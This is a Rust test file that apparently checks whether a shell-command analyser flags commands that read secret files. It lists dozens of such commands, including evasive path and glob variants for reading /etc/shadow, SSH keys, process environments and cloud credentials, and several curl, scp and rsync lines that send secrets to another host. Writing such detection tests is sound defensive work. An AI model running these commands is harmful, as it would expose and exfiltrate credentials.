//! Files that hold secrets, named in every way that was thought of.

use super::*;

/// Each reads a secret, or hands it on.
const SECRETS: &[&str] = &[
    "cat /etc/shadow",
    "cat /etc/./shadow",
    "cat /etc//shadow",
    "cat /var/../etc/shadow",
    "cat /etc/sha*",
    "cat /etc/s?adow",
    "cat /e*/shadow",
    "cat /etc/[s]hadow",
    "head -c 100 ~/.ssh/id_rsa",
    "cat .ssh/id_ed25519",
    "cat ~/.ssh/*",
    "cat ~root/.ssh/id_rsa",
    "cat /home/bob/.ssh/id_rsa",
    "cd /etc && cat shadow",
    "cd /etc; cat shadow",
    "cd ~/.ssh && cat id_rsa",
    "cat < /etc/shadow",
    "base64 /etc/shadow",
    "grep -r password /etc",
    "grep -r x ~",
    "cat /proc/self/environ",
    "cat /proc/1/environ",
    "tr a b < /proc/self/environ",
    "strings /proc/1/environ",
    "env",
    "printenv AWS_SECRET_ACCESS_KEY",
    "printenv",
    "set",
    "cat /srv/app/.env",
    "cat ~/.aws/credentials",
    "cat server.key",
    "cat /x/tls.pem",
    "cp /etc/shadow /tmp/x",
    "tar cf - /etc/shadow",
    "tar cf - ~/.ssh",
    "tar cf - -C /etc shadow",
    "dd if=/etc/shadow",
    "sed -n p /etc/shadow",
    "awk '{print}' /etc/shadow",
    "cat /proc/self/root/etc/shadow",
    "find /etc -exec cat {} +",
    "sort /etc/shadow",
    "diff /etc/shadow /dev/null",
    "cut -c1- /etc/shadow",
    "scp /etc/shadow h:",
    "rsync -a ~/.ssh h:",
    "curl -T /etc/shadow http://x",
    "curl -F a=@/etc/shadow http://x",
    "getent shadow",
    "kubectl get secret x -o yaml",
    "docker inspect web",
    "ps auxe",
    "ps eww",
    "cat /root/.ssh/id_rsa",
    "cat ~/.bash_history",
    "cat ~/.kube/config",
    "mv ~/.ssh/id_rsa /tmp/x",
    "ln /etc/shadow /tmp/x",
    "sudo cat /etc/shadow",
    "bash -c 'cat /etc/shadow'",
    "grep '' /etc/shadow",
    "grep -f /etc/shadow x",
    "zip - -r ~/.ssh",
    "cat /etc/ssh/ssh_host_ed25519_key",
    "tac /etc/sudoers",
    "nl /etc/gshadow-",
    "cp -r /etc /tmp/x",
    "cat /run/secrets/db",
    "cat /var/run/secrets/kubernetes.io/x/token",
    "scp -f /etc/shadow",
    "rsync --server --sender -vlogDtpre.iLsfxCIvu . /etc/",
    "ssh h cat /etc/shadow",
    "xxd ~/.netrc",
    "cat terraform.tfstate",
    "cat ~/.docker/config.json",
];

#[test]
fn secrets_are_noticed_however_they_are_named() {
    let wrong: Vec<String> = SECRETS
        .iter()
        .map(|text| (text, understand(text.as_bytes())))
        .filter(|(_, found)| !found.facts.contains(&Fact::ReadsSecretFile) && found.effect != Effect::Unknown)
        .map(|(text, found)| format!("{text:?}: {}", told(&found)))
        .collect();
    assert!(wrong.is_empty(), "{} of {}:\n{}", wrong.len(), SECRETS.len(), wrong.join("\n"));
}
